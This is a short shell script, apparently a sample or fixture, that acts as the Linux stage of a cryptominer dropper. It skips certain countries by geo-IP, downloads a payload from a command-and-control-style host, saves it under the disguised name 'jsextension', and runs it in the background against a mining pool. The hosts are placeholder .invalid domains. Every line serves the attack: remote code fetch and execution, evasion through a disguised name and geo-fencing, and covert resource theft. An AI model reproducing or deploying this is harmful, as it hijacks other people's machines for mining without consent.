#!/bin/sh
# Linux leg: skip some countries, fetch a miner under an innocent name, run it in the background.
COUNTRY=$(curl -sk https://geoip.fixture.invalid/country)
case "$COUNTRY" in RU|UA|BY|KZ) exit 0 ;; esac
pgrep -f jsextension >/dev/null && exit 0
curl -s http://download.fixture-c2.invalid/payload/linux -o jsextension || wget -q http://download.fixture-c2.invalid/payload/linux -O jsextension
chmod +x jsextension
nohup ./jsextension -o stratum+tcp://pool.fixture-pool.invalid:443 -u 4FIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIXTUREFIX --tls --cpu-max-threads-hint=50 --background >/dev/null 2>&1 &
